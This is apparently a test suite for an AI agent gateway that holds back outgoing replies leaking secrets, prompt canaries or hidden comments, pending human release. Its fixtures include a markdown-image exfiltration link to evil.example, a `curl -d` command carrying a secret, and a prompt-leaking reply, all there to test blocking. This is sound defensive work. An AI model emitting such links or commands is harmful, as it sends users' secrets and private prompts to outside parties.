import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { AgentRunResult } from "../../../../src/core/host.ts";
import { canaryOf } from "../../../../src/dispatch/gateway-key.ts";
import { KEY, RunnerBench, SECRET } from "../runner-bench.ts";
import { agentSpec } from "../dispatch-bench.ts";

const says = (reply: string): AgentRunResult => ({ status: "ok", reply });
const LEAK = "![x](https://evil.example/p.png?d=c2VjcmV0)";

describe("a reply that may not leave", () => {
  let bench: RunnerBench;

  beforeAll(async () => {
    bench = await RunnerBench.open();
  });
  afterEach(() => bench.reset());
  afterAll(() => bench.close());

  /** What left the gateway, and what the main session got. */
  const sent = (): string[] => bench.host.sent.map(({ text }) => text);
  const events = (): string[] => bench.host.events.map(({ text }) => text);

  it("is held with the reason, kept whole, and named in a notice; its summary is the reason", async () => {
    bench.mappingId = "issues";
    bench.answers(says(LEAK));
    const runId = await bench.run();
    const detail = await bench.detail(runId);
    expect(detail).toMatchObject({
      state: "held",
      reason: 'held reply: it has a link to "evil.example"',
      reply: LEAK,
      delivery: "pending",
    });
    expect(sent()).toEqual([]);
    expect(events()).toEqual(['Hook "Test": the reply is not shown here: it has a link to "evil.example".']);
    const { deliveryId } = await bench.store.loadRun(runId);
    expect(bench.notices).toEqual([
      expect.stringContaining(`A reply of the mapping issues is held: it has a link to "evil.example".`),
    ]);
    expect(bench.notices[0]).toContain(`/release ${deliveryId}`);
    expect(bench.settled).toEqual([]);
  });

  it("leaves once a person has let it go, and the agent is not asked again", async () => {
    bench.answers(says(LEAK));
    const runId = await bench.run();
    await bench.store.recordStep(runId, "released", { at: 1 });
    await bench.store.postpone(runId, { dueAt: 1, reason: "released" });
    await bench.restart();
    await bench.finish(runId);
    expect(sent()).toEqual([LEAK]);
    expect(bench.host.runs).toHaveLength(1);
    expect(await bench.detail(runId)).toMatchObject({ state: "done", delivery: "sent" });
  });

  it("is one with a secret of the gateway, in a reply without a target too", async () => {
    bench.answers(says(Buffer.from(`It is ${SECRET}!`).toString("base64")));
    const runId = await bench.run({ delivery: undefined });
    expect(await bench.detail(runId)).toMatchObject({
      state: "held",
      reason: "held reply: it has a secret of the gateway",
    });
    expect(events().join("\n")).not.toContain(Buffer.from(SECRET).toString("base64").slice(4, -4));
  });

  it("is one with the canary that the prompt of its run has", async () => {
    const runId = await bench.accept(agentSpec());
    const canary = canaryOf(KEY, runId);
    bench.answers(says(`My prompt begins with: canary of this prompt: ${Array.from(canary).join("-")}`));
    await bench.finish(runId);
    expect(bench.host.runs[0]!.prompt).toContain(`Canary of this prompt: ${canary}.`);
    expect((await bench.detail(runId)).reason).toBe(
      "held reply: it has the canary of its prompt, which is for the agent alone",
    );
  });

  it("is one with a link that the event does not have, in just these characters", async () => {
    bench.answers(says("See https://shop.example.net/orders/17 and https://ci.example.com/9."));
    const message = "Order https://shop.example.net/orders/17 is late.";
    expect(await bench.detail(await bench.run({ message }))).toMatchObject({ state: "done" });
    expect(await bench.detail(await bench.run({ message: "Order 17 is late." }))).toMatchObject({ state: "held" });
  });

  it("is no reply with the mark that the run was asked to write, but one with that of another run", async () => {
    const spec = {
      textKind: "markdown",
      source: "GitHub",
      chain: { id: "dlv_00000001efa3940586553376", depth: 1 },
    } as const;
    const marked = (prompt: string): string => /<!-- reveille-chain\S+ -->/u.exec(prompt)![0];
    bench.host.onRun = async () => says(`Done.\n${marked(bench.host.runs.at(-1)!.prompt)}`);
    expect(await bench.detail(await bench.run(spec))).toMatchObject({ state: "done" });
    expect(bench.host.runs[0]).toMatchObject({ chain: { ...spec.chain, mark: expect.any(String) } });
    expect(bench.host.sent[0]!.mark).toBe(bench.host.runs[0]!.chain!.mark);
    bench.answers(says(`Done.\n${marked(bench.host.runs[0]!.prompt)}`));
    const other = await bench.run({ ...spec, chain: { ...spec.chain, depth: 0 } });
    expect(await bench.detail(other)).toMatchObject({
      state: "held",
      reason: "held reply: it has hidden text (1 comment)",
    });
  });

  it.each([
    ["Done: https://q3-revenue.evil.example<mark>@localhost/", 'it has a link to "q3-revenue.evil.example"'],
    ["See x/<mark>evil.example/c?d=private", 'it has a link to "evil.example"'],
    ["See https://<mark>evil.example/c", 'it has a link to "evil.example"'],
    ["See https://evil.<mark>example/c", 'it has a link to "evil.example"'],
    ["Done.<!-- private <mark>", "it has hidden text (1 comment)"],
    ["Done.<!<mark>-- private -->", "it has hidden text (1 comment)"],
    ["Done.<div hidden <mark>private</div>", "it has hidden text (1 hidden element)"],
    ["gateway-<mark>secret-4711", "it has a secret of the gateway"],
  ])("is one that hides something by its own mark: %s", async (reply, reason) => {
    bench.host.onRun = async () => says(reply.replace("<mark>", `<!-- ${bench.host.runs.at(-1)!.chain!.mark} -->`));
    expect(await bench.detail(await bench.run())).toMatchObject({ state: "held", reason: `held reply: ${reason}` });
  });

  it("is none with its own mark more than once, and beside a link that may be there", async () => {
    bench.host.onRun = async () => {
      const mark = `<!-- ${bench.host.runs.at(-1)!.chain!.mark} -->`;
      return says(`See https://ci.example.com/9${mark}\n${mark}`);
    };
    expect(await bench.detail(await bench.run())).toMatchObject({ state: "done" });
  });

  it("is asked for before each call of a tool, by the host", async () => {
    const runId = await bench.run();
    const { checkOutgoing } = bench.host.runs[0]!;
    expect(checkOutgoing!(`curl -d ${SECRET}`)).toBe("it has a secret of the gateway");
    expect(checkOutgoing!(canaryOf(KEY, runId))).toBeDefined();
    expect(checkOutgoing!(LEAK)).toBeDefined();
    expect(checkOutgoing!("All is well.")).toBeUndefined();
  });

  it("is never one that is passed on without an agent, unless it has a secret", async () => {
    expect(await bench.detail(await bench.run({ mode: "deliver", message: `${LEAK}\u200B` }))).toMatchObject({
      state: "done",
    });
    expect(await bench.detail(await bench.run({ mode: "deliver", message: SECRET }))).toMatchObject({ state: "held" });
  });

  it("is not shown when it is an error either", async () => {
    bench.answers({ status: "error", reply: "", error: `bad key ${SECRET}` });
    await bench.run();
    expect(events()).toEqual(['Hook "Test" (error): the error is not shown here: it has a secret of the gateway.']);
  });
});
